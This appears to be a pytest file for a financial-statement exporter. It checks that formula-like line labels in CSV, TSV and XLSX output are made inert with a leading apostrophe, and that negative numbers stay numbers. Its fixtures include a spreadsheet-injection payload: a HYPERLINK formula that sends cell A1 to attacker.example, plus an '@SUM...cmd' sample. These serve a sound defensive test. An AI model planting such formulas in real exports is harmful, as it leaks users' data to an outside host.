"""Line labels a spreadsheet would run as formulas reach every CSV, TSV and XLSX writer as
inert text (a leading apostrophe), while numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from model.export import fact_rows, write_changes_csv, write_facts_csv
from model.filing import load_filing
from model.formula_guard import inert_text
from model.analysis.compare import compute_changes
from model.views.selections import selection_csv, selection_tsv
from model.views.table import statement_table
from model.views.xlsx import table_workbook_bytes
from tests.crafted import ROWS, write_statement

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Revenue")'
INJECTED = (
    (HYPERLINK, "100", "90"),
    ("@SUM(1+1)*cmd", "(40)", "(50)"),
    ("+Other income", "60", "40"),
    ("-Operating expenses", "10", "20"),
    ("Net income", "40", "30"),
)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+2", "'=1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+Other", "'+Other"),
        ("-Other", "'-Other"),
        ("\tTabbed", "'\tTabbed"),
        ("\rReturned", "'\rReturned"),
        ("-1+2", "'-1+2"),
        ("-31000", "-31000"),
        ("-0.25", "-0.25"),
        ("+12.5", "+12.5"),
        ("-1%", "-1%"),
        ("-1,234.5", "-1,234.5"),
        ("-1.2 pts", "'-1.2 pts"),
        ("Revenue - net", "Revenue - net"),
        ("", ""),
    ],
)
def test_formula_like_text_is_made_inert_and_numbers_are_not(text, written):
    assert inert_text(text) == written


@pytest.fixture
def injected(tmp_path):
    return load_filing(write_statement(tmp_path / "injected.md", INJECTED))


def test_the_facts_and_changes_csv_neutralise_labels_and_keep_negative_numbers(injected, tmp_path):
    facts_path, changes_path = tmp_path / "facts.csv", tmp_path / "changes.csv"
    write_facts_csv(facts_path, [injected])
    statement = injected.statements[0]
    write_changes_csv(changes_path, compute_changes(statement, injected.rounding))
    with open(facts_path, encoding="utf-8", newline="") as stream:
        facts = list(csv.DictReader(stream))
    labels = {row["line_item"] for row in facts}
    assert labels == {"'" + HYPERLINK, "'@SUM(1+1)*cmd", "'+Other income", "'-Operating expenses", "Net income"}
    negatives = [row["value"] for row in facts if row["line_item"].startswith("'@SUM")]
    assert sorted(negatives) == ["-40", "-50"], "negative numbers stay numbers"
    # the unwritten rows hold the labels as read: only the writer neutralises
    assert HYPERLINK in {row["line_item"] for row in fact_rows(statement)}
    with open(changes_path, encoding="utf-8", newline="") as stream:
        changes = list(csv.DictReader(stream))
    assert changes and all(not row["line_item"].startswith(("=", "+", "-", "@")) for row in changes)
    assert any(row["change"].startswith("-") for row in changes), "negative changes stay numbers"


def test_the_line_item_column_changes_only_for_formula_like_labels(tmp_path):
    plain = load_filing(write_statement(tmp_path / "plain.md", ROWS))
    out = tmp_path / "facts.csv"
    write_facts_csv(out, [plain])
    with open(out, encoding="utf-8", newline="") as stream:
        written = [row["line_item"] for row in csv.DictReader(stream)]
    assert written == [row["line_item"] for row in fact_rows(plain.statements[0])]


def test_the_table_csv_and_the_clipboard_neutralise_labels(injected):
    table = statement_table(injected.statements[0])
    lines, columns = range(len(table.lines)), range(len(table.columns))
    rows = list(csv.reader(io.StringIO(selection_csv(table, lines, columns))))
    assert rows[1][0] == "'" + HYPERLINK
    assert rows[2][1:] == ["-50", "-40"], "chronological columns, negative numbers as numbers"
    tsv = [line.split("\t") for line in selection_tsv(table, lines, columns).splitlines()]
    assert [row[0][:2] for row in tsv[1:5]] == ["'=", "'@", "'+", "'-"]
    assert tsv[2][1:] == ["-50", "-40"]


def test_the_workbook_holds_formula_like_labels_as_text_and_numbers_as_numbers(injected):
    from openpyxl import load_workbook

    table = statement_table(injected.statements[0])
    book = load_workbook(io.BytesIO(table_workbook_bytes(table, range(len(table.lines)), range(len(table.columns)))))
    sheet = book.active
    labels = {sheet.cell(row, 1).value: sheet.cell(row, 1) for row in range(4, sheet.max_row + 1)}
    hyperlink = labels[HYPERLINK]
    assert hyperlink.data_type == "s" and hyperlink.quotePrefix, "a string with Excel's quote prefix, not a formula"
    assert labels["+Other income"].quotePrefix and not labels["Net income"].quotePrefix
    row = hyperlink.row + 1
    assert [sheet.cell(row, 2).value, sheet.cell(row, 3).value] == [-50, -40]
